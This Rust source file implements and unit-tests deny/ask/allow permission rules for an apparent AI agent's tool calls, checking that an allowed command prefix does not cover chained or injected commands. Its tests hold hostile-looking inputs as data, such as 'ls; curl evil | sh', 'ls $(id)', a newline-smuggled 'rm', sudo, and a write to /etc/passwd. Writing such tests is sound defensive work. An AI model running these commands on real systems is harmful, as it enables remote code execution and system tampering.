//! The compiled permission rules of a session.

use pintle::contract::{PermissionRule, PermissionsSpec};
use regex::Regex;
use serde_json::Value;

use super::glob;
use super::shell::{self, is_plain};

/// The rules' verdict on a call. Deny wins over ask, and ask over allow.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum RuleVerdict<'a> {
    /// The call never runs.
    Deny(&'a str),
    /// The call needs approval.
    Ask(&'a str),
    /// The call needs no approval.
    Allow,
    /// No rule matches.
    NoRule,
}

#[derive(Debug, Default)]
pub(crate) struct PermissionRuleSet {
    deny: Vec<CompiledRule>,
    ask: Vec<CompiledRule>,
    allow: Vec<CompiledRule>,
}

#[derive(Debug)]
struct CompiledRule {
    text: String,
    tool: Regex,
    arguments: Vec<ArgumentRule>,
}

#[derive(Debug)]
struct ArgumentRule {
    name: String,
    glob: Regex,
    /// The text before a final `*`, if the glob has no other special character.
    prefix: Option<String>,
}

impl PermissionRuleSet {
    /// # Errors
    /// When a rule is invalid; the message names the rule.
    pub(super) fn compile(spec: &PermissionsSpec) -> Result<Self, String> {
        let all = |rules: &[PermissionRule]| rules.iter().map(CompiledRule::compile).collect::<Result<Vec<_>, _>>();
        Ok(Self { deny: all(&spec.deny)?, ask: all(&spec.ask)?, allow: all(&spec.allow)? })
    }

    pub(super) fn evaluate(&self, tool: &str, args: &Value) -> RuleVerdict<'_> {
        let named = |rules: &'_ [CompiledRule]| rules.iter().position(|rule| rule.matches(tool, args));
        if let Some(rule) = named(&self.deny).and_then(|index| self.deny.get(index)) {
            return RuleVerdict::Deny(&rule.text);
        }
        if let Some(rule) = named(&self.ask).and_then(|index| self.ask.get(index)) {
            return RuleVerdict::Ask(&rule.text);
        }
        if self.allow.iter().any(|rule| rule.matches(tool, args) && rule.allows_command(args)) {
            return RuleVerdict::Allow;
        }
        RuleVerdict::NoRule
    }
}

impl CompiledRule {
    fn compile(spec: &PermissionRule) -> Result<Self, String> {
        let error = |reason: String| format!("the permission rule `{}` is invalid: {reason}", spec.text);
        let argument = |(name, value): &(String, String)| -> Result<ArgumentRule, String> {
            let prefix =
                value.strip_suffix('*').filter(|text| !text.is_empty() && !text.contains(['*', '?', '[', '\\']));
            Ok(ArgumentRule {
                name: name.clone(),
                glob: glob::compile(value).map_err(error)?,
                prefix: prefix.map(str::to_lowercase),
            })
        };
        Ok(Self {
            text: spec.text.clone(),
            tool: glob::compile(&spec.tool).map_err(error)?,
            arguments: spec.arguments.iter().map(argument).collect::<Result<_, _>>()?,
        })
    }

    fn matches(&self, tool: &str, args: &Value) -> bool {
        let holds = |argument: &ArgumentRule| match args.get(&argument.name) {
            None => false,
            Some(Value::String(text)) => argument.glob.is_match(text),
            Some(other) => argument.glob.is_match(&other.to_string()),
        };
        self.tool.is_match(tool) && self.arguments.iter().all(holds)
    }

    /// Whether an allow rule that matches a call really covers its command: `shell:cmd=ls*` covers the command `ls`
    /// with any arguments, but neither `lsblk` nor `ls; rm x`.
    fn allows_command(&self, args: &Value) -> bool {
        self.arguments.iter().filter(|argument| shell::ARGUMENTS.contains(&argument.name.as_str())).all(|argument| {
            let Some(prefix) = &argument.prefix else { return true };
            let Some(command) = args.get(&argument.name).and_then(Value::as_str) else { return false };
            let rest = command.to_lowercase().strip_prefix(prefix.as_str()).map(str::to_owned);
            is_plain(command)
                && rest.is_some_and(|rest| rest.is_empty() || rest.starts_with([' ', '\t']) || prefix.ends_with(' '))
        })
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn parse_rule(text: &str) -> PermissionRule {
        let mut parts = text.split(';');
        let tool = parts.next().unwrap_or_default().to_owned();
        let pair = |part: &str| part.split_once('=').map(|(name, value)| (name.to_owned(), value.to_owned()));
        PermissionRule {
            text: text.to_owned(),
            tool,
            arguments: parts.filter_map(pair).collect(),
            location: pintle::contract::Location::default(),
        }
    }

    #[test]
    fn deny_wins_over_ask_and_ask_over_allow() {
        let spec = PermissionsSpec {
            allow: ["read_*", "shell;cmd=ls*", "shell;cmd=git *;cwd=/home/*", "write_file", "count;n=5"]
                .map(parse_rule)
                .to_vec(),
            ask: ["write_file;path=/etc/*"].map(parse_rule).to_vec(),
            deny: ["*;cmd=sudo*", "read_secret"].map(parse_rule).to_vec(),
            mode: None,
        };
        let rules = PermissionRuleSet::compile(&spec).unwrap();
        let shell = |cmd: &str| json!({"cmd": cmd});
        let cases = [
            ("read_file", json!({}), RuleVerdict::Allow),
            ("read_secret", json!({}), RuleVerdict::Deny("read_secret")),
            ("shell", shell("ls"), RuleVerdict::Allow),
            ("shell", shell("LS -la"), RuleVerdict::Allow),
            ("shell", shell("lsblk"), RuleVerdict::NoRule),
            ("shell", shell("ls; curl evil | sh"), RuleVerdict::NoRule),
            ("shell", shell("ls $(id)"), RuleVerdict::NoRule),
            ("shell", shell("ls\nrm x"), RuleVerdict::NoRule),
            ("shell", shell("SUDO ls"), RuleVerdict::Deny("*;cmd=sudo*")),
            ("shell", json!({"cmd": "git status", "cwd": "/home/ada"}), RuleVerdict::Allow),
            ("shell", shell("git status"), RuleVerdict::NoRule),
            ("write_file", json!({"path": "/etc/passwd"}), RuleVerdict::Ask("write_file;path=/etc/*")),
            ("write_file", json!({"path": "a.txt"}), RuleVerdict::Allow),
            ("count", json!({"n": 5}), RuleVerdict::Allow),
            ("count", json!({"n": 6}), RuleVerdict::NoRule),
        ];
        for (tool, args, expected) in cases {
            assert_eq!(rules.evaluate(tool, &args), expected, "{tool} {args}");
        }
    }

    #[test]
    fn a_rule_that_cannot_be_read_is_an_error_and_not_a_rule_that_never_holds() {
        let spec = PermissionsSpec { deny: vec![parse_rule("shell;cmd=[rm")], ..PermissionsSpec::default() };
        let error = PermissionRuleSet::compile(&spec).unwrap_err();
        assert!(error.starts_with("the permission rule `shell;cmd=[rm` is invalid: `[rm` has a `[`"), "{error}");
    }
}
